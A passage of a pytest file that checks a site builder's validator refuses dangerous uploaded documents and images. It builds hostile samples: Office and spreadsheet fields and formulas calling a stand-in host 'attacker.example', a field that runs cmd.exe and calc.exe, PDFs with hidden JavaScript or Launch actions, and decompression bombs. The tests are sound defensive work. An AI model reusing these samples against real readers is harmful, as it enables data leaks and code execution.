    ("database.docx", word("word/document.xml", simple(' DATABASE \\d "\\\\attacker.example\\s\\d.xlsx" ')),
     "has a field code DATABASE that reads a database or another file"),
    ("altchunk.docx", package({"word/_rels/document.xml.rels": relationships(
        'Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" '
        'Target="chunk.rtf"')}), "has content imported from another format (altChunk) (`chunk.rtf`)"),
    ("ole.docx", with_part(word("word/document.xml", field(" PAGE ")), "word/embeddings/x.dat",
                           b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)),
     "holds an embedded object (`word/embeddings/x.dat`, OLE)"),
    ("inner.docx", with_part(word("word/document.xml", field(" PAGE ")), "word/embeddings/Book1.xlsx",
                             sheet('WEBSERVICE("https://attacker.example/c")')),
     "holds a document (`word/embeddings/Book1.xlsx`) that has a formula that uses WEBSERVICE"),
    ("padded.docx", with_part(word("word/document.xml", field(" PAGE ")), "word/glossary/x.dat", b" " * 70_000 + (
        f'<w:document {W_NS}><w:body>' + field(' INCLUDEPICTURE "https://attacker.example/a.png" ')
        + "</w:body></w:document>").encode()), f"has a field code INCLUDEPICTURE {FETCHES} (in `word/glossary/x.dat`)"),
    # Eighth attacker: a field's name made by a field inside it, Excel 2010's
    # `xm:f` formulas, a relationships part in UTF-16 with no byte-order mark.
    ("quote.docx", word("word/document.xml", '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + field(
        " QUOTE 68 68 69 65 85 84 79 ")[5:-6] + '<w:r><w:instrText> c:\\windows\\system32\\cmd.exe "/k calc.exe"'
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
     "has a field whose name is made by another field inside it"),
    # Twenty-fifth round: VML names its picture by `o:relid`, outside the relationships namespace.
    ("vml.docx", package({"word/document.xml": f'<w:document {W_NS} xmlns:v="urn:schemas-microsoft-com:vml" '
                          'xmlns:o="urn:schemas-microsoft-com:office:office"><w:body><w:p><w:r><w:pict><v:shape>'
                          '<v:imagedata o:relid="rId9"/></v:shape></w:pict></w:r></w:p></w:body></w:document>',
                          "word/_rels/document.xml.rels": relationships(
                              'Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                              'hyperlink" Target="https://attacker.example/p.png" TargetMode="External"')}),
     "loads an outside address (relationship `rId9`) into `imagedata`"),
    # Twenty-second round: functions that send the workbook's data to a service, or fetch from one.
    ("stock.xlsx", sheet('_xlfn.STOCKHISTORY("MSFT",1)'), "uses STOCKHISTORY, which fetches data from the internet"),
    ("python.xlsx", sheet('_xlfn._xlws.PY(0,1,"import os")'), "uses PY, which runs Python code on another computer"),
    ("sheets.xlsx", sheet('IMPORTXML("https://attacker.example/","//a")'), "uses IMPORTXML, which fetches"),
    ("x14.xlsx", package({"xl/worksheets/sheet1.xml": f'<worksheet {X_NS} xmlns:xm="http://schemas.microsoft.com/'
                          'office/excel/2006/main"><extLst><ext><xm:f>ISERROR(WEBSERVICE("https://attacker.example/"))'
                          "</xm:f></ext></extLst></worksheet>"}), "uses WEBSERVICE, which reaches another computer"),
    ("utf16.docx", with_part(word("word/document.xml", field(" PAGE ")), "word/_rels/settings.xml.rels",
                             ('<?xml version="1.0" encoding="UTF-16"?>' + relationships(
                                 f'Id="rId1" Type="{TEMPLATE}" Target="http://attacker.example/t.dotm" '
                                 'TargetMode="External"')).encode("utf-16-be")),
     f"loads `http://attacker.example/t.dotm` {LOADS}"),
    ("ole.odt", odt('<office:body><office:text><text:p><draw:frame><draw:object-ole xlink:href="./Object 1"/>'
                    "</draw:frame></text:p></office:text></office:body>"), "holds an embedded object (`draw:object-ole`)"),
    # OpenDocument's formulas, linked pictures and sections (sixth attacker).
    ("webservice.ods", odt(cell('of:=COM.MICROSOFT.WEBSERVICE("https://attacker.example/b")')),
     'has a formula that uses WEBSERVICE, which reaches another computer (in `table:table-cell`: '
     '`of:=COM.MICROSOFT.WEBSERVICE("https://attacker.example/b")`)'),
    ("dde.ods", odt(cell('of:=DDE("soffice";"file:///C:/x.ods";"Sheet1.A1")')), "uses DDE, which starts another program"),
    ("hyperlink.ods", odt(cell('of:=HYPERLINK("file:///C:/Windows/x.exe";"Open")')),
     "links to `file:///C:/Windows/x.exe` (HYPERLINK)"),
    ("external.ods", odt(cell("of:=['file:///share/x.ods'#$Sheet1.A1]")),
     "reads a cell of another file when it is opened (an external reference)"),
    ("validity.ods", odt('<office:body><office:spreadsheet><table:content-validations><table:content-validation '
                         'table:name="v" table:condition="of:cell-content-is-true-formula(WEBSERVICE(&quot;https://'
                         'attacker.example/v&quot;))"/></table:content-validations></office:spreadsheet></office:body>'),
     "uses WEBSERVICE, which reaches another computer (in `table:content-validation`"),
    ("linked.odt", odt(odt_image('xlink:href="https://attacker.example/pixel.png"').replace(
        ' xlink:show="embed" xlink:actuate="onLoad"', "")), f"loads `https://attacker.example/pixel.png` {LOADS}"),
    ("section.odt", odt('<office:body><office:text><text:section text:name="S"><text:section-source xlink:href='
                        '"https://attacker.example/s.odt" text:filter-name="writer8"/></text:section></office:text>'
                        "</office:body>"), f"loads `https://attacker.example/s.odt` {LOADS}"),
]
# Fields and formulas that fetch and run nothing: published.
GOOD_ACTIVE = {
    "fields.docx": word("word/document.xml", field(" PAGE ") + simple(' HYPERLINK "https://www.gov.scot/" \\o "tip" ')
                        + field(" HYPERLINK \\l ", '"_Toc1" ') + simple(" MERGEFIELD Name ")),
    "sums.xlsx": sheet('IF(SUM(A1:A3)&gt;0,"Call (0131) 623 4300 | ask","")&amp;HYPERLINK("https://www.gov.scot/","web")'),
    "next.pptx": slide("ppaction://hlinkshowjump?jump=nextslide"),
    "chart.docx": with_part(word("word/document.xml", field(" PAGE ")), "word/embeddings/Book1.xlsx",
                            sheet("SUM(A1:A3)")),
    "sums.ods": odt(cell('of:=IF(SUM([.A1:.A3])>0;"Call | ask";"")&HYPERLINK("https://www.gov.scot/";"web")')),
}


def test_office_fields_links_and_formulas_that_fetch_or_run_are_refused(tmp_path):
    """Word field codes, Excel's DDE, OLE and workbook links and its
    formulas, and PowerPoint's program actions need no relationship to fetch
    or run: each is refused at its download's line by validate and the
    build, naming what was found, and the site stays as it was."""
    project, before, first, runs = refused_downloads(tmp_path, GOOD_ACTIVE, OFFICE_ACTIVE)
    for command, out, refused in runs:
        for number, (name, _, says) in enumerate(OFFICE_ACTIVE):
            line = first + 2 * number
            assert any(l.startswith(f"{A}:{line}:11 [unsafe-file] downloads, item {number + 1}: file: `files/{name}` ")
                       and says in l for l in refused), (command, name, says, refused)
        assert len(refused) == len(OFFICE_ACTIVE), refused
        assert out.count("hint: Export the file again") == len(OFFICE_ACTIVE)
    assert tree_digest(project / "site") == before


# --- The pixels of a briefing's images, added up (attack5/FINDINGS.md 4) -----------

# The budget is lowered in the project's copy of the code, so that small
# images stand for large ones: four distinct images of 800 pixels are at it.
BUDGET = 3_200
SHAPES = [(40, 20), (20, 40), (80, 10), (10, 80)]


def lowered_budget(project) -> None:
    source = project / "hooks" / "resource_library" / "pdf.py"
    text = source.read_text()
    assert "MAX_IMAGE_PIXELS_IN_ALL = 50_000_000\n" in text
    source.write_text(text.replace("MAX_IMAGE_PIXELS_IN_ALL = 50_000_000\n", f"MAX_IMAGE_PIXELS_IN_ALL = {BUDGET}\n"))


def test_a_briefings_images_are_refused_past_a_budget_of_pixels_in_all(tmp_path):
    """Twenty distinct 7,000 x 7,000 PNGs, each within the limit for one
    image, took 3 GB to make one PDF. At the budget (the same image shown
    twice counted once) the briefing builds; one more image is refused at
    its line by validate and the build, and the site stays as it was."""
    from conftest import real_png
    images = {f"at-a-glance/files/chart-{n}.png": real_png(*shape) for n, shape in enumerate(SHAPES)}
    at_budget = "".join(f"![Chart {n}](files/chart-{n}.png)\n\n" for n in range(len(SHAPES))) + \
        "![Chart 0 again](files/chart-0.png)\n"
    project = make_project(tmp_path / "p", content={A: GOOD + "\n" + at_budget, **images})
    lowered_budget(project)
    assert run_cli(project, "validate").returncode == 0
    result = build(project)
    assert result.returncode == 0, result.stderr[-3000:]
    assert (project / "site" / "at-a-glance" / "case" / "case.pdf").exists()
    before = tree_digest(project / "site")
    # Two more images: the first goes over.
    write_files(project, {A: GOOD + "\n" + at_budget + "\n![One more](files/more.png)\n\n![Last](files/last.png)\n",
                          "at-a-glance/files/more.png": real_png(5, 20), "at-a-glance/files/last.png": real_png(9, 9)})
    over_line = GOOD.count("\n") + 1 + at_budget.count("\n") + 2
    for command in (("validate",), ("build", "--site-dir", "site")):
        result = run_cli(project, *command)
        out = result.stdout + result.stderr
        assert result.returncode == 1 and "Traceback" not in out, (command, out[-3000:])
        found = problem_lines(out, "too-complex-for-pdf")
        assert found == [f"{A}:{over_line}:13 [too-complex-for-pdf] with this image, the 5 images the briefing shows "
                         f"have 3,300 pixels between them; the limit is {BUDGET:,}"], (command, out[-3000:])
        assert "  hint: Its PDF holds every image decoded at once. Save images at the size they are shown" in out
        assert "[pdf]" not in out
    assert tree_digest(project / "site") == before


def test_the_converter_refuses_images_past_the_budget(monkeypatch, tmp_path):
    """Validate refuses first; the PDF step checks again, counting each file once."""
    from conftest import real_png
    from resource_library import pdf
    monkeypatch.setattr(pdf, "MAX_IMAGE_PIXELS_IN_ALL", 1_600)
    for n in range(3):
        (tmp_path / f"{n}.png").write_bytes(real_png())
    converter = pdf.Converter("https://example.org/x/", lambda src: tmp_path / src)
    html = '<p><img src="0.png" alt="a"></p><p><img src="1.png" alt="b"></p><p><img src="0.png" alt="c"></p>'
    assert [block["t"] for block in converter.blocks(html)] == ["img", "img", "img"]
    with pytest.raises(pdf.PdfError, match="more than 1,600 pixels between them"):
        pdf.Converter("https://example.org/x/", lambda src: tmp_path / src).blocks(html + '<p><img src="2.png" alt="d"></p>')


# --- PDFs read as every reader reads them (seventh attacker) --------------------

def raw_pdf(objects: list[bytes], trailer: bytes, hidden_trailer: bytes = b"") -> bytes:
    """A PDF of `objects` (numbered from 1) with its own index and `trailer`;
    `hidden_trailer` sits before the index, where only a reader that
    searches the file finds it."""
    pdf, offsets = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(pdf))
        pdf += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    pdf += hidden_trailer
    xref = len(pdf)
    pdf += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % o for o in offsets)
    return bytes(pdf + b"trailer\n" + trailer + b"\nstartxref\n%d\n%%%%EOF\n" % xref)


PAGES = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
         b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"]
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def two_tables_pdf(first: bytes, last: bytes) -> bytes:
    """A linearised PDF of two catalogues, both object 2: the table after
    the linearisation dictionary (which Chromium's viewer and pdf.js read)
    names `first`, the last table (which pypdf and qpdf read) `last`."""
    pages = {3: b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>", 4: b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 9 9] >>"}

    def table(offsets):
        return b"xref\n0 5\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % offsets[n] for n in range(1, 5))

    def assemble(length):
        out, one, two = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), {}, {}
        one[1] = two[1] = len(out)
        out += b"1 0 obj\n<< /Linearized 1 /L %010d /H [ 1 1 ] /O 4 /E 1 /N 1 /T 1 >>\nendobj\n" % length
        at = len(out)
        out += b" " * len(table({n: 0 for n in range(1, 5)})) + b"trailer\n<< /Size 5 /Root 2 0 R >>\n"
        one[2] = len(out)
        out += b"2 0 obj\n" + first + b"\nendobj\n"
        for number, body in pages.items():
            one[number] = two[number] = len(out)
            out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
        two[2] = len(out)
        out += b"2 0 obj\n" + last + b"\nendobj\n"
        out[at:at + len(table(one))] = table(one)
        end = len(out)
        return bytes(out + table(two) + b"trailer\n<< /Size 5 /Root 2 0 R >>\nstartxref\n%d\n%%%%EOF\n" % end)
    return assemble(len(assemble(0)))


# An object no table lists, packed (stored, not compressed) after the bytes `endstream`.
PACKED = zlib.compress(b"5 0 << /Note (endstream) /S /JavaScript /JS (x) >>", 0)


def encrypted_pdf() -> bytes:
    """Protected against editing only, as a "restrict editing" export is: every reader opens it."""
    import pikepdf
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(raw_pdf(PAGES, b"<< /Size 4 /Root 1 0 R >>"))) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(owner="secret", user="", R=6))
    return out.getvalue()


@pytest.mark.parametrize("data, says", [
    # The last trailer names no catalogue: readers search for the one with a script.
    (raw_pdf([PAGES[0].replace(b">>", b"/OpenAction 4 0 R >>"), *PAGES[1:], SCRIPT], b"<< /Size 5 >>",
             b"trailer\n<< /Size 5 /Root 1 0 R >>\n"), "has no catalogue where its last trailer should name one"),
    # A script that no object points to, in the index all the same.
    (raw_pdf([*PAGES, SCRIPT], b"<< /Size 5 /Root 1 0 R >>"), "holds JavaScript"),
    # A file attachment annotation: /EmbeddedFile is a /Type there, and /EF a key.
    (raw_pdf([*PAGES[:2], PAGES[2].replace(b">>", b"/Annots [4 0 R] >>"),
              b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 5 0 R >>",
              b"<< /Type /Filespec /F (a.html) >>"], b"<< /Size 6 /Root 1 0 R >>"), "holds FileAttachment"),
    (raw_pdf([*PAGES, b"<< /Type /Filespec /F (a.html) /EF << /F 5 0 R >> >>", b"<< /Type /EmbeddedFile >>"],
             b"<< /Size 6 /Root 1 0 R >>"), "holds "),
    # Twenty-first round: pypdf stopped reading a dictionary at a `null` key, and kept the first of a key given
    # twice; qpdf, PDFium and pdf.js read on and keep the last (the script ran in Chromium's viewer).
    (raw_pdf([PAGES[0].replace(b">>", b"null /OpenAction " + SCRIPT + b" >>"), *PAGES[1:]],
             b"<< /Size 4 /Root 1 0 R >>"), "holds OpenAction"),
    (raw_pdf([*PAGES, b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [3 0 R /Fit] /S /Launch "
                      b"/F (calc.exe) >> >>"], b"<< /Size 5 /Root 1 0 R >>"), "holds Launch"),
    (raw_pdf([*PAGES, b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://ok.example/) "
                      b"/URI (javascript:app.alert\\(1\\)) >> >>"], b"<< /Size 5 /Root 1 0 R >>"),
     "has a link to `javascript:app.alert(1)`"),
    # Repairs that hide nothing today are refused all the same: each reader repairs in its own way.
    (raw_pdf([PAGES[0].replace(b">>", b"null /PageMode /UseNone >>"), *PAGES[1:]], b"<< /Size 4 /Root 1 0 R >>"),
     "is damaged (expected dictionary key but found"),
    (raw_pdf([PAGES[0].replace(b">>", b"/PageMode /UseNone /PageMode /UseOutlines >>"), *PAGES[1:]],
             b"<< /Size 4 /Root 1 0 R >>"), "is damaged (dictionary has duplicated key /PageMode"),
    # Twenty-second round: each reader takes its own table (the script ran in Chromium), so the
    # file is also read with none; and an encrypted file is said to be one.
    (two_tables_pdf(b"<< /Type /Catalog /Pages 3 0 R /OpenAction " + SCRIPT + b" >>",
                    b"<< /Type /Catalog /Pages 3 0 R >>"), "holds JavaScript"),
    (two_tables_pdf(b"<< /Type /Catalog /Pages 3 0 R /Names << /JavaScript 5 0 R >> >>",
                    b"<< /Type /Catalog /Pages 3 0 R >>"), "holds JavaScript"),
    (encrypted_pdf(), "is encrypted (protected against copying, printing or editing)"),
    # Packed data that holds the bytes `endstream` (stored, not compressed) is read to its real end.
    (raw_pdf([*PAGES, b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(PACKED)
              + PACKED + b"\nendstream"], b"<< /Size 5 /Root 1 0 R >>"), "holds JavaScript"),
    # Twenty-fourth round: a signature the published file would break, and files named by a web address.
    (raw_pdf([*PAGES, b"<< /Type /Sig /ByteRange [0 10 20 30] /Contents <00> >>"], b"<< /Size 5 /Root 1 0 R >>"),
     "is digitally signed"),
    (raw_pdf([*PAGES, b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Thread /D 0 /F << /FS /URL "
                      b"/F (https://evil.example/a.pdf) >> >> >>"], b"<< /Size 5 /Root 1 0 R >>"), "holds "),
    # Twenty-fifth round: a thread in another file, named as a plain string; a base address for links.
    (raw_pdf([*PAGES, b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Thread /D 0 "
                      b"/F (\\\\\\\\evil.example\\\\share\\\\x.pdf) >> >>"], b"<< /Size 5 /Root 1 0 R >>"), "holds Thread"),
    (raw_pdf([PAGES[0].replace(b">>", b"/URI << /Base (javascript:x) >> >>"), *PAGES[1:]], b"<< /Size 4 /Root 1 0 R >>"),
     "has a link to `javascript:x`"),
])
def test_a_pdf_is_read_whole_not_only_from_its_trailer(data, says):
    from resource_library.files import pdf_problem
    refused = pdf_problem(data)
    assert refused and says in refused, refused


def test_a_plain_pdf_built_the_same_way_passes():
    from resource_library.files import pdf_problem
    assert pdf_problem(raw_pdf(PAGES, b"<< /Size 4 /Root 1 0 R >>")) is None
    clean = b"<< /Type /Catalog /Pages 3 0 R >>"
    assert pdf_problem(two_tables_pdf(clean, clean)) is None
    # An article thread, and a base address for the document's links, are the document's own.
    assert pdf_problem(raw_pdf([PAGES[0].replace(b">>", b"/URI << /Base (https://www.gov.scot/) >> /Threads [4 0 R] >>"),
                                *PAGES[1:], b"<< /Type /Thread /I << /Title (Story) >> >>"],
                               b"<< /Size 5 /Root 1 0 R >>")) is None


def test_a_pdf_packed_and_linearised_by_qpdf_passes_and_what_it_packs_is_read():
    """Object streams are unpacked for the reading without tables: a PDF
    saved with them passes, and a name found only inside one is read."""
    import pikepdf
    from resource_library import pdf_scan
    from resource_library.files import pdf_problem
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(raw_pdf(PAGES, b"<< /Size 4 /Root 1 0 R >>"))) as pdf:
        pdf.Root.Extra = pdf.make_indirect(pikepdf.Dictionary(Packed=pikepdf.Name("/Zq9")))
        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, linearize=True)
    data = out.getvalue()
    assert b"/ObjStm" in data and b"/Zq9" not in data
    assert pdf_problem(data) is None
    assert "/Zq9" in [name for name, _ in pdf_scan.entries(data, lambda steps: None)]



def packed_pdf(arrays: int, zeros: int, extra: bytes = b"") -> bytes:
    """A PDF whose objects 5 on are `arrays` arrays of `zeros` zeros, packed
    into one compressed object stream (indexed by a cross-reference stream):
    a few KB on disk, however much it inflates to."""
    import zlib
    out, offsets = bytearray(b"%PDF-1.7\n"), {}
    for number, body in enumerate(PAGES, 1):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    array = b"[" + b"0 " * zeros + b"]\n"
    members = [array] * arrays + ([extra] if extra else [])
    header = b" ".join(b"%d %d" % (5 + i, sum(map(len, members[:i]))) for i in range(len(members))) + b"\n"
    packed = zlib.compress(header + b"".join(members))
    offsets[4] = len(out)
    out += b"4 0 obj\n<< /Type /ObjStm /N %d /First %d /Length %d /Filter /FlateDecode >>\nstream\n" % (
        len(members), len(header), len(packed)) + packed + b"\nendstream\nendobj\n"
    index = 5 + len(members)
    rows = b""
    for number in range(index + 1):
        if number in offsets:
            rows += b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00"
        elif 5 <= number < index:
            rows += b"\x02" + (4).to_bytes(4, "big") + (number - 5).to_bytes(2, "big")
        elif number == index:
            rows += b"\x01" + len(out).to_bytes(4, "big") + b"\x00\x00"
        else:
            rows += b"\x00" * 5 + b"\xff\xff"
    at = len(out)
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % (
        index, index + 1, len(rows)) + rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % at
    return bytes(out)


def test_reading_a_pdf_is_bounded_by_steps_not_by_its_size():
    """A 10 KB PDF whose object stream inflates to 20 MB of zeros took 30 s
    to check, and a thousand such streams fit under the size limit; 96,000
    arrays of zeros written out took 42 s. Both are read within
    MAX_PDF_READS steps, and refused as soon as they are spent."""
    import time
    from resource_library import files
    bomb = packed_pdf(arrays=110, zeros=99_000)
    assert len(bomb) < 50_000
    start = time.perf_counter()
    refused = files.pdf_problem(bomb)
    assert refused == files.PDF_TOO_COMPLEX and "5,000,000 steps" in refused
    assert time.perf_counter() - start < 5  # spent before the stream is parsed, not after
    # Objects in a stream are still read: a script packed among them is found.
    assert "holds JavaScript" in files.pdf_problem(packed_pdf(arrays=2, zeros=10, extra=SCRIPT))
    assert files.pdf_problem(packed_pdf(arrays=2, zeros=10)) is None


def test_a_pdf_read_in_exactly_its_budget_passes_and_one_step_less_is_refused(monkeypatch):
    from resource_library import files
    plain = raw_pdf(PAGES + [b"[" + b"0 " * 500 + b"]"] * 20, b"<< /Size 24 /Root 1 0 R >>")
    budget = files._Budgeted(plain, 10**9)
    assert files._pdf_walk_problem(budget, __import__("pypdf").PdfReader) is None
    steps = 10**9 - budget.left
    assert steps > 10_000  # the arrays' zeros are read one by one
    monkeypatch.setattr(files, "MAX_PDF_READS", steps)
    assert files.pdf_problem(plain) is None
    monkeypatch.setattr(files, "MAX_PDF_READS", steps - 1)
    assert files.pdf_problem(plain) == files.PDF_TOO_COMPLEX


# --- Names the offline copy can be unzipped with on Windows (seventh attacker) ----

def test_names_windows_cannot_save_are_refused_at_their_source(tmp_path):
    """`aux.md`, a download `con.csv`, `checklist:v2.csv`, a file name of 223
    characters and a topic `nul`: validate and the build refuse each where
    it is written (the gate's own test is in test_gate.py)."""
    long_name = "readiness-checklist-" * 11 + "q.csv"
    text = with_downloads(["con.csv", "checklist:v2.csv", long_name])
    project = make_project(tmp_path / "p", content={
        "at-a-glance/aux.md": text, **{f"at-a-glance/files/{n}": b"a,b\n" for n in ("con.csv", "checklist:v2.csv", long_name)}})
    first = GOOD.split("\n").index("status: current") + 3
    for command in (("validate",), ("build", "--site-dir", "site")):
        result = run_cli(project, *command)
        out = result.stdout + result.stderr
        assert result.returncode == 1 and "Traceback" not in out, out[-2000:]
        for where, says in [("at-a-glance/aux.md:1:1 [file-name]", "`aux.md` is a name Windows keeps for a device"),
                            (f"at-a-glance/aux.md:{first}:11 [file-path]", "uses `con.csv`, a name Windows keeps"),
                            (f"at-a-glance/aux.md:{first + 2}:11 [file-path]", "has `:` in its name"),
                            (f"at-a-glance/aux.md:{first + 4}:11 [file-path]", "has a name of 225 characters")]:
            assert any(line.startswith(where) and says in line for line in out.splitlines()), (command, where, out[-3000:])
        assert not (project / "site").exists()
    # The vocabulary is checked first: its problems are the ones said then.
    topics = project / "vocabulary" / "topics.yml"
    topics.write_text(topics.read_text() + "nul:\n  name: Nothing\n  description: A topic named as a device.\n")
    line = topics.read_text().split("\n").index("nul:") + 1
    result = run_cli(project, "validate")
    assert result.returncode == 1 and f"vocabulary/topics.yml:{line}:1 [vocabulary] `nul` is a name Windows keeps" \
        in result.stdout + result.stderr


# --- Images the checks pass are images the PDF can show (seventh attacker) ------

def png_of(*chunks: tuple) -> bytes:
    """A PNG of (type, data[, checksum]) chunks."""
    import zlib
    out = b"\x89PNG\r\n\x1a\n"
    for kind, data, *crc in chunks:
        out += struct.pack(">I", len(data)) + kind + data + struct.pack(">I", (crc or [zlib.crc32(kind + data)])[0])
    return out


def image_variants() -> dict[str, bytes]:
    import zlib
    header = (b"IHDR", struct.pack(">IIBBBBB", 4, 4, 8, 2, 0, 0, 0))
    palette_header = (b"IHDR", struct.pack(">IIBBBBB", 4, 4, 8, 3, 0, 0, 0))
    data = (b"IDAT", zlib.compress(b"".join(b"\x00" + b"\x80\x40\x20" * 4 for _ in range(4))))
    indexed = (b"IDAT", zlib.compress(b"\x00\x00\x00\x00\x00" * 4))
    end = (b"IEND", b"")
    return {"ok.png": png_of(header, data, end), "no-end.png": png_of(header, data),
            "data-checksum.png": png_of(header, (*data, 5), end), "two-headers.png": png_of(header, header, data, end),
            "no-palette.png": png_of(palette_header, indexed, end),
            "palette.png": png_of(palette_header, (b"PLTE", b"\x00\x00\x00"), indexed, end),
            "gamma.png": png_of(header, (b"gAMA", struct.pack(">I", 0)), data, end),
            "text-checksum.png": png_of(header, data, (b"tEXt", b"a\x00b", 1), end),
            "jpeg.jpg": jpeg(), "progressive.jpg": progressive(100), "cut.jpg": jpeg()[:-20],
            "ok.gif": plain_gif(), "no-table.gif": plain_gif(table=False)}


def plain_gif(table: bool = True) -> bytes:
    """A 4 x 4 GIF; without `table`, its colour table taken out (no frame then has one)."""
    from PIL import Image
    out = io.BytesIO()
    Image.new("P", (4, 4), 1).save(out, "GIF")
    data = out.getvalue()
    if table:
        return data
    size = 3 << ((data[10] & 7) + 1)
    return data[:10] + bytes([data[10] & 0x7F]) + data[11:13] + data[13 + size:]


@pytest.mark.parametrize("name", list(image_variants()))
def test_an_image_the_checks_pass_is_one_typst_can_show(tmp_path, name):
    """A PNG with no IEND, a wrong IDAT checksum, two IHDRs or a palette
    image with no palette passed Pillow and failed the PDF (Typst's png
    crate): validate said nothing and the build stopped."""
    import typst
    from resource_library.files import image_problem
    data = image_variants()[name]
    (tmp_path / name).write_bytes(data)
    (tmp_path / "main.typ").write_text(f'#image("{name}", alt: "x")\n')
    try:
        typst.compile(str(tmp_path / "main.typ"), root=str(tmp_path))
        shown = True
    except Exception:
        shown = False
    refused = image_problem(data, name.rsplit(".", 1)[1])
    assert shown or refused, f"{name}: passed by the checks, refused by Typst"
    assert name not in ("ok.png", "palette.png", "gamma.png", "jpeg.jpg", "progressive.jpg") or not refused, refused


def test_an_office_document_of_millions_of_elements_is_refused_before_it_is_parsed():
    """Tenth attacker: a 98 KB Word file of 95 MB of `<a/>` took 3.3 GB to
    check; past MAX_OFFICE_ELEMENTS tags it is refused before lxml builds it."""
    from resource_library.files import MAX_OFFICE_ELEMENTS, office_problem
    out = io.BytesIO(word("word/document.xml", field(" PAGE ")))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as z:
        z.writestr("word/big.xml", b"<r>" + b"<a/>" * MAX_OFFICE_ELEMENTS + b"</r>")
    assert len(out.getvalue()) < 100_000
    assert office_problem(out.getvalue(), "docx") == f"has more than {MAX_OFFICE_ELEMENTS:,} elements to check"


def test_a_pdf_is_published_as_qpdf_read_it(tmp_path):
    """Twenty-third round: each round found one more way for a reader to take
    a part of a PDF the checks did not read (a table, a repair, a token).
    What is published is the file as qpdf read it and the checks read it:
    one table, only what the catalogue reaches."""
    from pypdf import PdfReader

    from resource_library.files import normalised_pdf
    source = raw_pdf([*PAGES, b"<< /Unreached /Zq9 >>"], b"<< /Size 5 /Root 1 0 R >>")
    project = make_project(tmp_path / "p", content={"deeper-dives/fine.md": with_downloads(["fine.pdf"], "Fine"),
                                                    "deeper-dives/files/fine.pdf": source})
    result = build(project)
    assert result.returncode == 0, result.stderr[-2000:]
    published = (project / "site" / "deeper-dives" / "files" / "fine.pdf").read_bytes()
    assert b"/Zq9" in source and b"/Zq9" not in published and published.count(b"startxref") == 1
    assert len(PdfReader(io.BytesIO(published)).pages) == 1
    # A first-page table naming a script, that only some readers take, is not in what would be published.
    hidden = two_tables_pdf(b"<< /Type /Catalog /Pages 3 0 R /OpenAction " + SCRIPT + b" >>",
                            b"<< /Type /Catalog /Pages 3 0 R >>")
    assert b"/OpenAction" not in normalised_pdf(hidden) and normalised_pdf(normalised_pdf(hidden)) == normalised_pdf(hidden)
    # Twenty-fourth round: streams are copied, never unpacked (a page packed twice over held 1 GB of blank lines).
    packed = zlib.compress(zlib.compress(b"\n" * 20_000_000, 9), 9)
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>"
    bomb = raw_pdf([*PAGES[:2], page, b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n" % len(packed)
                    + packed + b"\nendstream"], b"<< /Size 5 /Root 1 0 R >>")
    assert len(normalised_pdf(bomb)) < 2 * len(bomb)


def test_jpegs_the_pdf_cannot_show_are_refused_before_the_build():
    """Twenty-sixth round: arithmetic coding, and colours sampled 3x1,
    passed validate and stopped the briefing's PDF."""
    from PIL import Image

    from resource_library.files import jpeg_coding_problem
    out = io.BytesIO()
    Image.new("RGB", (16, 16), (200, 100, 50)).save(out, "JPEG")
    plain = out.getvalue()
    assert jpeg_coding_problem(plain) is None
    sof = plain.index(b"\xff\xc0")
    arithmetic = plain[:sof + 1] + b"\xc9" + plain[sof + 2:]
    assert "arithmetic coding" in jpeg_coding_problem(arithmetic)
    first_factors = sof + 11  # marker, length, precision, height, width, count, then id and factors
    odd = plain[:first_factors] + b"\x31" + plain[first_factors + 1:]
    assert "(3x1)" in jpeg_coding_problem(odd)


def test_where_a_pdf_opens_is_no_action_and_csv_notes_are_data():
    """Twenty-sixth round: LaTeX's hyperref opens a PDF at a view
    (`/OpenAction [page /Fit]`), and notes with | and ! are data; a
    function named bare for MAP to call is a call."""
    from resource_library.files import _formula_problem, csv_formula_problem, pdf_problem
    assert pdf_problem(raw_pdf([PAGES[0].replace(b">>", b"/OpenAction [3 0 R /Fit] >>"), *PAGES[1:]],
                               b"<< /Size 4 /Root 1 0 R >>")) is None
    # Thirty-eighth round: hyperref's default is a GoTo action to the first page, by reference; an open
    # action that goes anywhere else, or goes on to another, still runs.
